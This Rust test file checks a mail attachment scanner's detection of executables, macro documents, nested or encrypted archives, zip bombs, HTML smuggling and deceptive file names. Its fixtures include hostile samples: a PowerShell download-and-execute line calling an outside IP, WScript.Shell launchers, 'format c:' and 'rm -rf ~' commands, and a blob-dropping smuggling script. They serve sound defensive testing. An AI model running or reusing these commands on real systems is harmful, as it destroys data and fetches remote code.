//! Every blocked attachment type, generated here, and what clean files must not trigger.

mod common;

use caldicott_mail::symbols::*;
use caldicott_mail::{MailConfig, Scanner, Verdict};
use common::*;

#[track_caller]
fn expect(raw: &[u8], symbol: &str, at_least: Verdict) {
    let r = scan(raw);
    assert!(r.has(symbol), "{symbol} missing: {r:#?}");
    assert!(
        r.verdict >= at_least,
        "verdict {} < {at_least}: {r:#?}",
        r.verdict
    );
}

#[track_caller]
fn expect_clean(raw: &[u8]) {
    let r = scan(raw);
    assert_eq!(r.verdict, Verdict::Accept, "{r:#?}");
}

#[test]
fn executables_by_content_whatever_the_name() {
    expect(
        &with_attachment("report.pdf", "application/pdf", &pe()),
        ATTACH_EXECUTABLE,
        Verdict::Reject,
    );
    expect(
        &with_attachment("photo.jpg", "image/jpeg", &elf()),
        ATTACH_EXECUTABLE,
        Verdict::Reject,
    );
    let macho = b"\xCF\xFA\xED\xFE\x07\x00\x00\x01".repeat(8);
    expect(
        &with_attachment("notes.txt", "text/plain", &macho),
        ATTACH_EXECUTABLE,
        Verdict::Reject,
    );
    let lnk = b"\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46"
        .to_vec();
    expect(
        &with_attachment("invoice", "application/octet-stream", &lnk),
        ATTACH_EXECUTABLE,
        Verdict::Reject,
    );
    // Declared as text: the bytes are judged before any charset conversion.
    expect(
        &with_attachment("notes.txt", "text/plain; charset=utf-8", &pe()),
        ATTACH_EXECUTABLE,
        Verdict::Reject,
    );
    let r = scan(&with_attachment("report.pdf", "application/pdf", &pe()));
    assert!(
        r.symbol(ATTACH_EXECUTABLE)
            .unwrap()
            .reason
            .contains("Windows PE"),
        "{r:#?}"
    );
}

#[test]
fn scripts_by_content() {
    let vbs = b"Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n";
    expect(
        &with_attachment("readme.txt", "text/plain", vbs),
        ATTACH_SCRIPT,
        Verdict::Reject,
    );
    let ps = b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.7/a')";
    expect(
        &with_attachment("data.csv", "text/csv", ps),
        ATTACH_SCRIPT,
        Verdict::Reject,
    );
    let hta = b"<html><head><HTA:APPLICATION ID=\"x\"><script language=VBScript>CreateObject(\"WScript.Shell\")</script></head></html>";
    expect(
        &with_attachment("page.htm", "text/html", hta),
        ATTACH_SCRIPT,
        Verdict::Reject,
    );
    expect(
        &with_attachment("run.sh", "text/plain", b"#!/bin/sh\nrm -rf ~\n"),
        ATTACH_UNIX_SCRIPT,
        Verdict::Quarantine,
    );
    expect(
        &with_attachment("x.txt", "text/plain", b"@echo off\r\nformat c:\r\n"),
        ATTACH_SCRIPT,
        Verdict::Reject,
    );
}

#[test]
fn macro_office_documents() {
    expect(
        &with_attachment("rota.doc", "application/msword", &doc_with_macros()),
        ATTACH_MACRO_OFFICE,
        Verdict::Quarantine,
    );
    expect(
        &with_attachment(
            "rota.docm",
            "application/vnd.ms-word.document.macroEnabled.12",
            &docm(),
        ),
        ATTACH_MACRO_OFFICE,
        Verdict::Quarantine,
    );
    // The same file under an innocent name and type: content decides.
    expect(
        &with_attachment(
            "rota.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            &docm(),
        ),
        ATTACH_MACRO_OFFICE,
        Verdict::Quarantine,
    );
    let xls = ole(
        &["/_VBA_PROJECT_CUR", "/_VBA_PROJECT_CUR/VBA"],
        &[
            ("/Workbook", b"\x09\x08"),
            ("/_VBA_PROJECT_CUR/VBA/dir", b"\x01"),
        ],
    );
    expect(
        &with_attachment("pay.xls", "application/vnd.ms-excel", &xls),
        ATTACH_MACRO_OFFICE,
        Verdict::Quarantine,
    );
}

#[test]
fn clean_office_documents_pass() {
    expect_clean(&with_attachment(
        "minutes.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        &docx(),
    ));
    let doc = ole(
        &[],
        &[
            ("/WordDocument", b"\xEC\xA5 body"),
            ("/\u{5}SummaryInformation", b"\xFE\xFF"),
        ],
    );
    expect_clean(&with_attachment("minutes.doc", "application/msword", &doc));
    expect_clean(&with_attachment(
        "rota.pdf",
        "application/pdf",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF",
    ));
    expect_clean(&with_attachment(
        "photo.png",
        "image/png",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    ));
}

#[test]
fn archives_are_opened() {
    let z = zip(&[("readme.txt", b"hello"), ("setup.dat", &pe())]);
    let r = scan(&with_attachment("invoice.zip", "application/zip", &z));
    assert!(
        r.has(ATTACH_EXECUTABLE) && r.verdict == Verdict::Reject,
        "{r:#?}"
    );
    assert!(
        r.symbol(ATTACH_EXECUTABLE)
            .unwrap()
            .reason
            .contains("invoice.zip/setup.dat"),
        "{r:#?}"
    );
    // Nested: a zip in a zip in a zip.
    let inner = zip(&[("payload.bin", &elf())]);
    let middle = zip(&[("inner.zip", &inner)]);
    let outer = zip(&[("docs.zip", &middle)]);
    let r = scan(&with_attachment("docs.zip", "application/zip", &outer));
    assert!(r.has(ATTACH_EXECUTABLE), "{r:#?}");
    assert!(
        r.symbol(ATTACH_EXECUTABLE)
            .unwrap()
            .reason
            .contains("docs.zip/docs.zip/inner.zip/payload.bin"),
        "{r:#?}"
    );
    // Macros and scripts inside archives.
    let z = zip(&[("rota.doc", &doc_with_macros())]);
    expect(
        &with_attachment("rota.zip", "application/zip", &z),
        ATTACH_MACRO_OFFICE,
        Verdict::Quarantine,
    );
    let z = zip(&[(
        "a.txt",
        b"var s = new ActiveXObject('WScript.Shell'); s.Run('x');",
    )]);
    expect(
        &with_attachment("a.zip", "application/zip", &z),
        ATTACH_SCRIPT,
        Verdict::Reject,
    );
    // gzip and tar.
    expect(
        &with_attachment("bill.pdf.gz", "application/gzip", &gzip(&pe())),
        ATTACH_EXECUTABLE,
        Verdict::Reject,
    );
    let t = tar(&[("notes.txt", b"hi"), ("bin/tool", &elf())]);
    expect(
        &with_attachment("logs.tar.gz", "application/gzip", &gzip(&t)),
        ATTACH_EXECUTABLE,
        Verdict::Reject,
    );
    // A clean archive passes.
    expect_clean(&with_attachment(
        "minutes.zip",
        "application/zip",
        &zip(&[("minutes.txt", b"Present: all")]),
    ));
}

#[test]
fn nesting_past_the_limit_is_held() {
    let mut z = zip(&[("note.txt", b"deep")]);
    for i in 0..6 {
        z = zip(&[(&format!("level{i}.zip"), &z)]);
    }
    expect(
        &with_attachment("deep.zip", "application/zip", &z),
        ATTACH_ARCHIVE_LIMIT,
        Verdict::Quarantine,
    );
}

#[test]
fn encrypted_archives_are_quarantined() {
    let z = encrypted_zip("invoice.pdf", b"%PDF-1.4 secret", b"1234");
    let r = scan(&with_attachment("invoice.zip", "application/zip", &z));
    assert!(r.has(ATTACH_ENCRYPTED_ARCHIVE), "{r:#?}");
    assert_eq!(r.verdict, Verdict::Quarantine, "{r:#?}");
    // Inside a clean outer zip too.
    let outer = zip(&[("secure.zip", &z)]);
    expect(
        &with_attachment("pack.zip", "application/zip", &outer),
        ATTACH_ENCRYPTED_ARCHIVE,
        Verdict::Quarantine,
    );
}

#[test]
fn unscannable_archives_are_quarantined() {
    expect(
        &with_attachment("a.rar", "application/x-rar", b"Rar!\x1A\x07\x01\x00rest"),
        ATTACH_ARCHIVE_UNSCANNABLE,
        Verdict::Quarantine,
    );
    expect(
        &with_attachment(
            "a.7z",
            "application/x-7z-compressed",
            b"7z\xBC\xAF\x27\x1C\x00\x04",
        ),
        ATTACH_ARCHIVE_UNSCANNABLE,
        Verdict::Quarantine,
    );
    let mut iso = vec![0u8; 0x8010];
    iso[0x8001..0x8006].copy_from_slice(b"CD001");
    expect(
        &with_attachment("scan.img", "application/octet-stream", &iso),
        ATTACH_ARCHIVE_UNSCANNABLE,
        Verdict::Quarantine,
    );
    let mut broken = zip(&[("a.txt", b"hello world hello world")]);
    broken.truncate(broken.len() - 30);
    expect(
        &with_attachment("a.zip", "application/zip", &broken),
        ATTACH_ARCHIVE_UNSCANNABLE,
        Verdict::Quarantine,
    );
}

#[test]
fn zip_bombs_stop_at_the_limit() {
    let mut config = MailConfig::default();
    config.limits.max_member_bytes = 1 << 20;
    let scanner = Scanner::new(config, None).unwrap();
    let zeros = vec![0u8; 4 << 20];
    let z = zip(&[("a.bin", &zeros), ("b.bin", &zeros)]);
    assert!(z.len() < 64 << 10, "the bomb compresses well: {}", z.len());
    let r = scanner.scan(&with_attachment("bomb.zip", "application/zip", &z));
    assert!(r.has(ATTACH_ARCHIVE_LIMIT), "{r:#?}");
    assert_eq!(r.verdict, Verdict::Quarantine, "{r:#?}");
}

#[test]
fn html_smuggling() {
    let blob = r#"<html><body><script>
        var d = atob("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=");
        var b = new Blob([new Uint8Array([...d].map(c => c.charCodeAt(0)))], {type: 'octet/stream'});
        var a = document.createElement('a'); a.href = URL.createObjectURL(b);
        a.download = 'invoice.iso'; a.click();
        </script></body></html>"#;
    expect(
        &with_attachment("invoice.html", "text/html", blob.as_bytes()),
        ATTACH_HTML_SMUGGLING,
        Verdict::Quarantine,
    );
    let ms = "<html><script>window.navigator.msSaveOrOpenBlob(b, 'a.zip');</script></html>";
    expect(
        &with_attachment("view.htm", "text/html", ms.as_bytes()),
        ATTACH_HTML_SMUGGLING,
        Verdict::Quarantine,
    );
    let data_uri = "<html><a href=\"data:application/octet-stream;base64,TVqQAAMAAAAEAAAA\" download=\"a.exe\">Open</a></html>";
    expect(
        &with_attachment("open.html", "text/html", data_uri.as_bytes()),
        ATTACH_HTML_SMUGGLING,
        Verdict::Quarantine,
    );
    // In the body too (data: URI of an executable).
    let body = html("billing@example.com", "Invoice", data_uri);
    expect(&body, ATTACH_HTML_SMUGGLING, Verdict::Quarantine);
    // An ordinary HTML attachment is only noted.
    let r = scan(&with_attachment(
        "menu.html",
        "text/html",
        b"<html><body><p>Lunch menu</p></body></html>",
    ));
    assert!(
        r.has(ATTACH_HTML) && !r.has(ATTACH_HTML_SMUGGLING) && r.verdict == Verdict::Accept,
        "{r:#?}"
    );
}

#[test]
fn lying_file_names() {
    expect(
        &with_attachment("invoice.pdf.exe", "application/pdf", b"not really"),
        ATTACH_DOUBLE_EXTENSION,
        Verdict::Quarantine,
    );
    expect(
        &with_attachment("scan.jpg          .scr", "image/jpeg", b"x"),
        ATTACH_DOUBLE_EXTENSION,
        Verdict::Quarantine,
    );
    expect(
        &with_attachment("invoice\u{202E}fdp.exe", "application/pdf", b"x"),
        ATTACH_BIDI_NAME,
        Verdict::Quarantine,
    );
    expect(
        &with_attachment("update.js", "text/plain", b"x"),
        ATTACH_DANGEROUS_NAME,
        Verdict::Quarantine,
    );
    let z = zip(&[("statement.pdf.exe", b"x")]);
    expect(
        &with_attachment("statement.zip", "application/zip", &z),
        ATTACH_DOUBLE_EXTENSION,
        Verdict::Quarantine,
    );
    expect_clean(&with_attachment(
        "care.plan.v2.pdf",
        "application/pdf",
        b"%PDF-1.4",
    ));
}

#[test]
fn embedded_package_objects_are_inspected() {
    let mut native = vec![0u8; 6];
    native.extend_from_slice(b"run.exe\0C:\\run.exe\0");
    native.extend_from_slice(&[0; 8]);
    native.extend_from_slice(b"C:\\tmp\\run.exe\0");
    let exe = pe();
    native.extend_from_slice(&(exe.len() as u32).to_le_bytes());
    native.extend_from_slice(&exe);
    let doc = ole(
        &["/ObjectPool", "/ObjectPool/_1"],
        &[
            ("/WordDocument", b"\xEC\xA5"),
            ("/ObjectPool/_1/\u{1}Ole10Native", &native),
        ],
    );
    expect(
        &with_attachment("letter.doc", "application/msword", &doc),
        ATTACH_EXECUTABLE,
        Verdict::Reject,
    );
}

#[test]
fn floors_can_be_relaxed_per_site() {
    let config = MailConfig::from_toml_str(
        "[symbols.ATTACH_MACRO_OFFICE]\nweight = 1.0\nmin_verdict = \"accept\"\n",
    )
    .unwrap();
    let r = Scanner::new(config, None).unwrap().scan(&with_attachment(
        "pay.docm",
        "application/zip",
        &docm(),
    ));
    assert!(
        r.has(ATTACH_MACRO_OFFICE) && r.verdict == Verdict::Accept,
        "{r:#?}"
    );
}

#[test]
fn fixtures_are_real_files() {
    // The generated fixtures parse with their own readers, so the checks are tested against
    // genuine structures, not just magic numbers.
    let z = encrypted_zip("a.txt", b"hello", b"pw");
    let mut a = zip::ZipArchive::new(std::io::Cursor::new(z)).unwrap();
    assert!(a.by_index_raw(0).unwrap().encrypted());
    let d = doc_with_macros();
    let c = cfb::CompoundFile::open(std::io::Cursor::new(d)).unwrap();
    assert!(c.is_storage("/Macros/VBA"));
    assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
}
